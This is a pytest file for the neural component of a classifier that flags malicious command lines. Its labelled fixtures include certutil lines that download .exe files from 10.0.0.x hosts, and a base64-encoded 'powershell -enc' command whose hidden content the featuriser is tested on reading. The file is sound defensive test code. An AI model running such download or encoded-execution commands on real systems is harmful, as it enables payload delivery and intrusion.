"""The neural network: its graph against numpy, its file, its column beside the n-grams', and its training."""

import importlib.util

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.classify import neural
from cmdclf.classify.export import PARITY, export_model
from cmdclf.classify.featurise import Featuriser
from cmdclf.classify.grams import GramModel
from cmdclf.classify.model import Classifier
from cmdclf.classify.neural import MOST_TOKENS, NEURAL_FILE, NeuralModel, padless, tokens_of
from cmdclf.classify.scorer import Scorer
from cmdclf.classify.train_neural import fit_neural, neural_out_of_fold
from cmdclf.errors import CmdclfError, MissingExtraError, ModelIntegrityError
from cmdclf.features import FeatureMaker, load_embedder

HAS_TORCH = importlib.util.find_spec("torch") is not None
BAD = [f"certutil -urlcache -split -f http://10.0.0.{i}/a{i}.exe" for i in range(20)]
GOOD = [f"notepad.exe C:\\work\\note{i}.txt" for i in range(20)]


def drawn(tokens: int = 50, d: int = 8, h: int = 5, seed: int = 0) -> NeuralModel:
    rng = np.random.default_rng(seed)
    shapes = ((tokens + 1, d), (2 * d, h), (h,), (h,), ())
    return NeuralModel(*(np.asarray(rng.normal(size=shape), np.float32) for shape in shapes))


def lists(rows: list[list[int]]) -> pa.ListArray:
    return pa.array(rows, pa.list_(pa.int32()))


ROWS = st.lists(st.lists(st.integers(0, 49), max_size=MOST_TOKENS + 4), max_size=12)


@settings(max_examples=30, deadline=None)
@given(rows=ROWS, seed=st.integers(0, 3))
def test_the_graph_agrees_with_numpy(rows: list[list[int]], seed: int) -> None:
    model = drawn(seed=seed)
    np.testing.assert_allclose(model.decision_function(lists(rows)), model.reference(lists(rows)), rtol=1e-5, atol=1e-5)


@settings(max_examples=30, deadline=None)
@given(rows=ROWS)
def test_lines_of_a_length_go_together_cut_and_never_empty(rows: list[list[int]]) -> None:
    seen = {}
    for at, ids in padless(lists(rows), 50):
        assert ids.shape[0] == len(at)
        seen |= dict(zip(at.tolist(), ids.tolist(), strict=True))
    assert seen == {i: (row or [50])[:MOST_TOKENS] for i, row in enumerate(rows)}


def test_a_slice_scores_as_the_whole() -> None:
    rows, model = lists([[1, 2], [], [3], [4, 5, 6], [7]]), drawn()
    np.testing.assert_allclose(model.decision_function(rows[1:4]), model.decision_function(rows)[1:4], atol=1e-6)


def test_many_lines_of_one_length_score_as_few(monkeypatch: pytest.MonkeyPatch) -> None:
    rows, model = lists([[i % 50, 3] for i in range(40)]), drawn()
    whole = model.decision_function(rows)
    monkeypatch.setattr(neural, "_ROWS", 7)
    np.testing.assert_allclose(model.decision_function(rows), whole, atol=1e-6)


def test_what_is_saved_scores_the_same(tmp_path) -> None:
    model, rows = drawn(), lists([[1, 2, 3], [], [49]])
    model.save(tmp_path)
    loaded = NeuralModel.load(tmp_path)
    assert np.array_equal(loaded.decision_function(rows), model.decision_function(rows))
    assert np.array_equal(loaded.vectors, model.vectors)


@pytest.mark.parametrize("content", [b"", b"no graph", None])
def test_a_file_that_is_no_network_is_named(tmp_path, content: bytes | None) -> None:
    if content is not None:
        (tmp_path / NEURAL_FILE).write_bytes(content)
    with pytest.raises(ModelIntegrityError, match=r"neural\.onnx"):
        NeuralModel.load(tmp_path)


def test_another_version_and_layers_that_do_not_fit_are_refused(tmp_path) -> None:
    graph = drawn().to_onnx()
    graph.model_version = 99
    (tmp_path / NEURAL_FILE).write_bytes(graph.SerializeToString())
    with pytest.raises(ModelIntegrityError, match="version 99"):
        NeuralModel.load(tmp_path)
    odd = drawn()
    odd.hidden = odd.hidden[:-1]
    odd.save(tmp_path)
    with pytest.raises(ModelIntegrityError, match="fit together"):
        NeuralModel.load(tmp_path)


def test_tokens_of_another_embedder_are_refused() -> None:
    with pytest.raises(ModelIntegrityError, match="tokens"):
        drawn().decision_function(lists([[3, 51]]))
    with pytest.raises(CmdclfError, match="no tokens"):
        tokens_of(type("Other", (), {"name": "other"})(), pa.array(["x"]))


@pytest.fixture(scope="module")
def columns() -> tuple[Featuriser, pa.RecordBatch, np.ndarray]:
    text = pa.array(BAD + GOOD)
    batch = pa.record_batch({"command_line": text, "platform": pa.array(["windows"] * len(text))})
    y = np.repeat([1, 0], 20)
    embedder = load_embedder()
    network = drawn(tokens=len(embedder.vectors))
    return Featuriser(FeatureMaker().fit([batch]), embedder, grams=GramModel().fit(text, y), neural=network), batch, y


def test_its_log_odds_are_the_last_column(columns) -> None:
    featuriser, batch, _ = columns
    matrix = featuriser.matrix(batch)
    text = batch.column("command_line")
    assert featuriser.beside == ["grams", "neural"]
    assert featuriser.names[-2:] == ["grams", "neural"]
    assert matrix.shape == (len(text), featuriser.width) == (40, len(featuriser.names))
    np.testing.assert_allclose(matrix[:, -2], featuriser.grams.decision_function(text), rtol=1e-5)
    expected = featuriser.neural.reference(featuriser.embedder.tokenise(text))
    np.testing.assert_allclose(matrix[:, -1], expected, rtol=1e-4, atol=1e-4)


def test_it_reads_what_a_line_hides(columns) -> None:
    featuriser = columns[0]
    lines = [
        "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
        "whoami /all powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
    ]
    batch = pa.record_batch({"command_line": lines[:1], "platform": ["windows"]})
    expected = featuriser.neural.reference(featuriser.embedder.tokenise(pa.array(lines[1:])))
    assert featuriser.matrix(batch)[0, -1] == pytest.approx(float(expected[0]), abs=1e-4)


def test_an_exported_model_scores_with_it_and_its_file_is_sealed(columns, tmp_path) -> None:
    featuriser, batch, y = columns
    matrix = featuriser.matrix(batch)
    classifier = Classifier(max_iter=3, min_samples_leaf=2, beside=2, folds=2).fit(matrix, y)
    folder = export_model(tmp_path / "m", classifier, featuriser, name="t", provenance={}, metrics={}, probe=matrix)
    scorer = Scorer.load(folder, threads=1)
    np.testing.assert_allclose(scorer.probabilities(batch), classifier.predict_proba(matrix)[:, 1], atol=PARITY)
    assert scorer.explain(batch.slice(0, 2)).num_rows == 2
    (folder / NEURAL_FILE).write_bytes((folder / NEURAL_FILE).read_bytes() + b"\0")
    with pytest.raises(ModelIntegrityError, match=r"neural\.onnx"):
        Scorer.load(folder)


def test_training_needs_both_classes_and_as_many_labels() -> None:
    vectors = np.ones((5, 4), np.float32)
    with pytest.raises(ValueError, match="one class"):
        fit_neural(lists([[1], [2]]), [1, 1], vectors)
    with pytest.raises(ValueError, match="2 lines but 1"):
        fit_neural(lists([[1], [2]]), [1], vectors)


@pytest.mark.skipif(HAS_TORCH, reason="torch is installed")
def test_training_without_torch_names_the_extra() -> None:
    with pytest.raises(MissingExtraError, match="train"):
        fit_neural(lists([[1], [2]]), [1, 0], np.ones((5, 4), np.float32))


@pytest.mark.skipif(not HAS_TORCH, reason="torch is not installed")
def test_training_tells_two_kinds_apart_and_repeats_itself() -> None:
    vectors = np.random.default_rng(0).normal(size=(6, 8)).astype(np.float32)
    rows = lists([[0, 1, i % 2] for i in range(40)] + [[3, 4, 3 + i % 2, 5] for i in range(40)])
    y = np.repeat([1, 0], 40)
    model = fit_neural(rows, y, vectors, epochs=20, batch=8, rate=0.01)
    scores = model.decision_function(rows)
    assert scores[:40].min() > scores[40:].max()
    assert np.array_equal(fit_neural(rows, y, vectors, epochs=20, batch=8, rate=0.01).decision_function(rows), scores)
    unseen = neural_out_of_fold(rows, y, vectors, np.arange(80) % 2, epochs=20, batch=8, rate=0.01)
    assert unseen[:40].min() > unseen[40:].max()
